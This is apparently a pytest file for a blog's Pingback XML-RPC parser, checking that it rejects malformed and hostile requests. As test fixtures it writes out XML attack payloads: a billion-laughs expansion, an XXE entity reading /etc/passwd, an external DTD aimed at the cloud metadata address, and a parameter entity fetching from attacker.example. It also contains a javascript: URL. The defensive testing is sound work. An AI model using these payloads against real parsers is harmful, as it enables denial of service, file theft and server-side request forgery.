"""Pingback 1.0 XML-RPC parsing and answers (fedblog.activitypub.pingback).

Request bodies are built with Python's `xmlrpc.client.dumps(..., methodname='pingback.ping')`, the
same call WordPress's `IXR_Request` makes; answers are read back with `xmlrpc.client.loads`.
"""

from __future__ import annotations

import xmlrpc.client

import pytest

from fedblog.activitypub import pingback
from fedblog.activitypub.pingback import PingbackFault, PingbackRequest

SOURCE = "https://other.example/2026/12/a-reply/"
TARGET = "https://blog.example/2026/hello-world"


def _call(*params: object, method: str = "pingback.ping") -> bytes:
    return xmlrpc.client.dumps(params, methodname=method).encode("utf-8")


def _fault(result: PingbackRequest | PingbackFault, code: int) -> PingbackFault:
    assert isinstance(result, PingbackFault), result
    assert result.code == code, result
    return result


def test_wordpress_style_call_is_read() -> None:
    assert pingback.parse_ping(_call(SOURCE, TARGET)) == PingbackRequest(SOURCE, TARGET)


def test_str_body_untyped_values_whitespace_and_encoding_declaration() -> None:
    body = (
        "<?xml version='1.0' encoding='iso-8859-1'?>\n<methodCall>\n  <methodName> pingback.ping </methodName>\n"
        f"  <params><param><value>  {SOURCE}\n</value></param>\n"
        f"  <param><value><string>{TARGET}#comments</string></value></param></params>\n</methodCall>"
    )
    assert pingback.parse_ping(body.encode("iso-8859-1")) == PingbackRequest(SOURCE, TARGET + "#comments")
    assert pingback.parse_ping(f"<methodCall><methodName>pingback.ping</methodName><params><param><value>{SOURCE}"
                               f"</value></param><param><value>{TARGET}</value></param></params></methodCall>"
                               ) == PingbackRequest(SOURCE, TARGET)


def test_escaped_ampersands_in_urls_are_unescaped() -> None:
    result = pingback.parse_ping(_call(SOURCE + "?a=1&b=2", TARGET))
    assert result == PingbackRequest(SOURCE + "?a=1&b=2", TARGET)
    assert b"&amp;" in _call(SOURCE + "?a=1&b=2", TARGET)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<methodCall><methodName>pingback.ping</methodName><params>
<param><value><string>&lol9;</string></value></param>
<param><value><string>https://blog.example/p</string></value></param></params></methodCall>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE methodCall [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<methodCall><methodName>pingback.ping</methodName><params>
<param><value><string>&xxe;</string></value></param>
<param><value><string>https://blog.example/p</string></value></param></params></methodCall>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE methodCall SYSTEM "http://169.254.169.254/latest/meta-data/">
<methodCall><methodName>pingback.ping</methodName></methodCall>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<methodCall/>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"])
def test_dtds_and_entities_are_refused(body: bytes) -> None:
    fault = _fault(pingback.parse_ping(body), pingback.PARSE_ERROR)
    assert "DTD" in fault.message


@pytest.mark.parametrize("body", [b"", b"not xml", b"<methodCall><methodName>pingback.ping</methodName>",
                                  b"<a></b>", b"\xff\xfe<\x00", b"<methodCall>\x00</methodCall>"])
def test_malformed_xml_is_a_parse_error(body: bytes) -> None:
    _fault(pingback.parse_ping(body), pingback.PARSE_ERROR)


@pytest.mark.parametrize("body", [
    b"<methodResponse><params/></methodResponse>",
    b"<methodCall><params/></methodCall>",
    b"<methodCall><methodName>pingback.ping</methodName><methodName>x</methodName></methodCall>",
    b"<methodCall><methodName>pingback.<b/>ping</methodName></methodCall>",
    b"<methodCall><methodName>pingback.ping</methodName><params/><params/></methodCall>",
    b"<methodCall><methodName>pingback.ping</methodName><extra/></methodCall>",
    b"<x:methodCall xmlns:x='urn:x'><methodName>pingback.ping</methodName></x:methodCall>",
])
def test_not_xml_rpc_is_an_invalid_request(body: bytes) -> None:
    _fault(pingback.parse_ping(body), pingback.INVALID_REQUEST)


@pytest.mark.parametrize("method", ["system.multicall", "system.listMethods", "pingback.extensions.getPingbacks",
                                    "wp.getUsersBlogs", "PINGBACK.PING", " "])
def test_other_methods_are_not_found(method: str) -> None:
    fault = _fault(pingback.parse_ping(_call(SOURCE, TARGET, method=method)), pingback.METHOD_NOT_FOUND)
    assert "only answers pingback.ping" in fault.message


def test_multicall_of_pings_is_not_executed() -> None:
    calls = [{"methodName": "pingback.ping", "params": [SOURCE, TARGET + str(i)]} for i in range(100)]
    _fault(pingback.parse_ping(_call(calls, method="system.multicall")), pingback.METHOD_NOT_FOUND)


@pytest.mark.parametrize("params", [
    (),
    (SOURCE,),
    (SOURCE, TARGET, "extra"),
    (42, TARGET),
    (SOURCE, 3.5),
    (True, TARGET),
    ([SOURCE], TARGET),
    ({"url": SOURCE}, TARGET),
    (xmlrpc.client.Binary(SOURCE.encode()), TARGET),
    (SOURCE, xmlrpc.client.DateTime("20261202T11:22:10")),
], ids=["none", "one", "three", "int", "double", "boolean", "array", "struct", "base64", "datetime"])
def test_wrong_params_are_invalid_params(params: tuple[object, ...]) -> None:
    _fault(pingback.parse_ping(_call(*params)), pingback.INVALID_PARAMS)


def test_string_with_markup_inside_is_invalid_params() -> None:
    body = (b"<methodCall><methodName>pingback.ping</methodName><params><param><value><string>a<b/>"
            b"</string></value></param><param><value>x</value></param></params></methodCall>")
    _fault(pingback.parse_ping(body), pingback.INVALID_PARAMS)


@pytest.mark.parametrize("source", ["", "/relative/path", "ftp://other.example/x", "javascript:alert(1)",
                                    "file:///etc/passwd", "https://", "https://exa mple.com/", "http://a.example:99999/",
                                    "https://other.example/\x7f", "https://other.example/a\tb",
                                    "https://other.example/" + "a" * 3000])
def test_unusable_source_is_fault_0x10(source: str) -> None:
    fault = _fault(pingback.parse_ping(_call(source, TARGET)), pingback.SOURCE_NOT_FOUND)
    assert fault.message.startswith("The source URI does not exist.")


@pytest.mark.parametrize("target", ["", "mailto:me@blog.example", "gopher://blog.example/", "//blog.example/p"])
def test_unusable_target_is_fault_0x21(target: str) -> None:
    _fault(pingback.parse_ping(_call(SOURCE, target)), pingback.TARGET_CANNOT_BE_USED)


def test_source_equal_to_target_is_a_generic_fault() -> None:
    _fault(pingback.parse_ping(_call(TARGET + "#x", "HTTPS://BLOG.EXAMPLE/2026/hello-world")), pingback.GENERIC_FAULT)


def test_oversized_body_is_refused_before_parsing() -> None:
    padding = "x" * pingback.MAX_BODY_BYTES
    fault = _fault(pingback.parse_ping(_call(SOURCE + "?" + padding, TARGET)), pingback.INVALID_REQUEST)
    assert "larger than" in fault.message
    assert isinstance(pingback.parse_ping(_call(SOURCE + "?" + "x" * 1500, TARGET)), PingbackRequest)


def test_fault_codes_are_the_spec_values() -> None:
    assert [pingback.GENERIC_FAULT, pingback.SOURCE_NOT_FOUND, pingback.SOURCE_HAS_NO_LINK, pingback.TARGET_NOT_FOUND,
            pingback.TARGET_CANNOT_BE_USED, pingback.ALREADY_REGISTERED, pingback.ACCESS_DENIED,
            pingback.UPSTREAM_ERROR] == [0, 16, 17, 32, 33, 48, 49, 50]
    assert (pingback.PARSE_ERROR, pingback.INVALID_REQUEST, pingback.METHOD_NOT_FOUND, pingback.INVALID_PARAMS) == (
        xmlrpc.client.PARSE_ERROR, xmlrpc.client.INVALID_XMLRPC, xmlrpc.client.METHOD_NOT_FOUND,
        xmlrpc.client.INVALID_METHOD_PARAMS)


def test_success_response_reads_back_with_xmlrpc_client() -> None:
    params, method = xmlrpc.client.loads(pingback.success_response("Thanks! <3 & more"))
    assert params == ("Thanks! <3 & more",) and method is None


def test_fault_response_reads_back_as_a_fault() -> None:
    body = pingback.fault_response(PingbackFault.of(pingback.SOURCE_HAS_NO_LINK))
    with pytest.raises(xmlrpc.client.Fault) as caught:
        xmlrpc.client.loads(body)
    assert caught.value.faultCode == 0x11
    assert caught.value.faultString == "The source URI does not contain a link to the target URI."


def test_control_characters_from_input_never_break_the_answer() -> None:
    body = pingback.fault_response(PingbackFault(0, "bad \x00\x1b[31m url " + "y" * 1000))
    with pytest.raises(xmlrpc.client.Fault) as caught:
        xmlrpc.client.loads(body)
    assert "\x00" not in caught.value.faultString and len(caught.value.faultString) <= 300


def test_ping_call_round_trips() -> None:
    assert pingback.parse_ping(pingback.ping_call(SOURCE, TARGET)) == PingbackRequest(SOURCE, TARGET)
    assert xmlrpc.client.loads(pingback.ping_call(SOURCE, TARGET)) == ((SOURCE, TARGET), "pingback.ping")


def test_parse_ping_response() -> None:
    assert pingback.parse_ping_response(xmlrpc.client.dumps(("Pingback from x registered",), methodresponse=True)
                                        ) == "Pingback from x registered"
    fault = pingback.parse_ping_response(xmlrpc.client.dumps(xmlrpc.client.Fault(48, "already"), methodresponse=True))
    assert fault == PingbackFault(48, "already")
    i4 = (b"<methodResponse><fault><value><struct><member><name>faultCode</name><value><i4>33</i4></value></member>"
          b"<member><name>faultString</name><value>no</value></member></struct></value></fault></methodResponse>")
    assert pingback.parse_ping_response(i4) == PingbackFault(33, "no")
    for garbage in (b"<html>500</html>", b"", BILLION_LAUGHS, b"<methodResponse><params/></methodResponse>"):
        _fault(pingback.parse_ping_response(garbage), pingback.UPSTREAM_ERROR)


def test_oversized_str_body_counts_utf8_bytes() -> None:
    body = _call(SOURCE + "?" + "é" * (pingback.MAX_BODY_BYTES // 2), TARGET).decode("utf-8")
    assert len(body) < pingback.MAX_BODY_BYTES < len(body.encode("utf-8"))
    _fault(pingback.parse_ping(body), pingback.INVALID_REQUEST)
